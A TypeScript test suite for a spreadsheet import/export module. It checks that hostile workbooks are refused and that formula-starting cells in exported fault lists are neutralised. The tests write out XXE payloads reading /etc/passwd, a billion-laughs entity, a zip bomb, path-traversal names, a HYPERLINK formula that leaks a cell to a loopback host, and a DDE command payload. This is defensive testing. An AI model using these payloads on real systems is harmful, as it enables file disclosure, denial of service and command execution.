import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buildApiDocument } from '../../src/platform/http/api-document.js';
import { Workbook, WorkbookRefusal } from '../../src/platform/spreadsheet/index.js';
import { startTestApplication, type TestApplication } from '../support/application.js';
import { TestCounty } from '../support/county.js';
import { checkedImport, filledWorkbook } from '../support/imports.js';
import { rawWorkbook, workbookEntries } from '../support/raw-workbook.js';
import { rawZip, type RawEntry } from '../support/raw-zip.js';
import { request } from '../support/request.js';

const folder = mkdtempSync(join(tmpdir(), 'hostile-'));
const path = join(folder, 'workbook.xlsx');
let test_: TestApplication;

beforeAll(async () => { test_ = await startTestApplication(); });
afterAll(async () => {
  await test_?.close();
  rmSync(folder, { recursive: true });
});

interface CellRead { readonly kind: string; readonly text: string }

/** Every cell of a workbook. @throws WorkbookRefusal also for a formula */
async function cellsOf(bytes: Buffer): Promise<CellRead[]> {
  writeFileSync(path, bytes);
  const workbook = await Workbook.open(path, { temporaryFolder: folder });
  const cells: CellRead[] = [];
  try {
    for (const name of workbook.sheetNames) {
      for await (const rows of workbook.sheet(name)?.rows() ?? []) {
        for (const row of rows) for (const cell of row.cells) if (cell) cells.push({ kind: cell.kind, text: cell.kind === 'TEXT' ? cell.text : '' });
      }
    }
    return cells;
  } finally {
    workbook.close();
  }
}

const plain = { sheets: { 居民: '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>姓名</t></is></c></row></sheetData>' } };
const parts = workbookEntries(plain).map(({ name }) => name);
/** The workbook with one of its parts made another. */
const withPart = (name: string, change: (data: string) => Buffer | string): Buffer =>
  rawZip(workbookEntries(plain).map((entry): RawEntry => (entry.name === name ? { ...entry, data: change(entry.data.toString()) } : entry)));

describe('what may lie in a workbook', () => {
  const declarations = {
    'an external entity': '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    'an external entity over the network': '<!DOCTYPE a [<!ENTITY x SYSTEM "http://127.0.0.1:1/x">]>',
    'an external document type': '<!DOCTYPE a SYSTEM "http://127.0.0.1:1/a.dtd">',
    'a public document type': '<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://127.0.0.1:1/a.dtd">',
    'a parameter entity': '<!DOCTYPE a [<!ENTITY % x SYSTEM "file:///etc/passwd"> %x;]>',
    'a billion laughs': '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>',
    'an empty document type': '<!DOCTYPE a>',
  };
  const places = Object.entries(declarations).flatMap(([what, text]) => parts.map((part) => [what, part, text] as const));

  test.each(places)('%s in %s is refused', async (_what, part, text) => {
    await expect(cellsOf(withPart(part, (data) => text + data))).rejects.toMatchObject({ code: 'ENTITY_DECLARATION' });
  });

  test.each([
    ['UTF-16', (data: string) => Buffer.from(`\ufeff<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>${data}`, 'utf16le')],
    ['a letter case of its own', (data: string) => `<!doctype a [<!entity x system "file:///etc/passwd">]>${data}`],
    ['an XInclude', (data: string) => data.replace('<sheetData>', '<sheetData><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>')],
    ['a style sheet', (data: string) => `<?xml-stylesheet href="http://127.0.0.1:1/x.xsl" type="text/xsl"?>${data}`],
  ] as const)('an external text by way of %s reaches no cell', async (_what, change) => {
    const cells = await cellsOf(withPart('xl/worksheets/sheet1.xml', change)).catch((error: unknown) => error);
    if (!(cells instanceof WorkbookRefusal)) expect(cells).toEqual([{ kind: 'TEXT', text: '姓名' }]);
  });

  // Those in the sheets and their texts are among the hostile workbooks of the reader's own suite.
  test.each(parts.filter((part) => !/sheet1|sharedStrings/.test(part)))('a bomb in %s is refused', async (part) => {
    await expect(cellsOf(withPart(part, () => `<a>${'<filler/>'.repeat(1_200_000)}</a>`))).rejects.toMatchObject({ code: 'COMPRESSION_BOMB' });
  });

  test.each(['../x.xml', 'xl/../../x.xml', '/x.xml', 'C:/x.xml', 'C:x.xml', '..\\x.xml', 'xl\\..\\..\\x.xml', '\\\\host\\x.xml', 'xl/./../../x.xml'])('a part called %j is refused', async (name) => {
    await expect(cellsOf(rawWorkbook({ ...plain, extra: [{ name, data: '<a/>' }] }))).rejects.toBeInstanceOf(WorkbookRefusal);
  });

  test('nothing was unpacked into the folder or beside it', () => {
    expect(readdirSync(folder)).toEqual(['workbook.xlsx']);
    expect(readdirSync(join(folder, '..'))).not.toContain('x.xml');
  });
});

describe('what goes out', () => {
  const starts = ['=1+1', '=HYPERLINK("http://127.0.0.1/?"&A1,"a")', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '＝1+1', "'=1+1", "=cmd|' /C calc'!A0"];

  test('cells of the list of faults that would start a formula are text', async () => {
    const county = await TestCounty.make(test_);
    const officer = await county.addStaff('COUNTY_OFFICER', county.institutions.county);
    const bytes = await filledWorkbook({ 机构: starts.map((start, index) => ({ 机构编码: `F${index}`, 机构名称: start, 机构类别: start, 上级机构编码: 'NONE' })), 团队: starts.map((start, index) => ({ 团队编码: `F${index}`, 团队名称: start, 所属机构编码: 'NONE', 签约名额: start })) });
    const { body } = await checkedImport(test_, officer.token, bytes);
    expect(body.state).toBe('FAULTY');
    const { raw } = await request(test_.application, 'GET', `/imports/${body.id}/faults.xlsx`, { token: officer.token });
    const cells = await cellsOf(raw);
    const dangerous = cells.filter(({ text }) => /^[=+\-@\t\r\n]/.test(text));
    expect(new Set(dangerous.map(({ text }) => text.charAt(0)))).toEqual(new Set(['=', '+', '-', '@']));
    expect(dangerous.every(({ kind }) => kind === 'TEXT')).toBe(true);
  });

  test('every download is of a kind whose cells cannot start a formula; a route that gives anything else has to prove it here', () => {
    const document = buildApiDocument(test_.application) as unknown as { paths: Record<string, Record<string, { responses: Record<string, { content?: Record<string, unknown> }> }>> };
    const others = Object.entries(document.paths).flatMap(([route, methods]) => Object.values(methods).flatMap(({ responses }) =>
      Object.values(responses).flatMap(({ content }) => Object.keys(content ?? {})).filter((type) => !harmless.has(type)).map((type) => `${route}: ${type}`)));
    expect(others).toEqual([]);
  });
  const harmless: ReadonlySet<string> = new Set(['application/json', 'application/pdf', 'image/png', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet']);
});
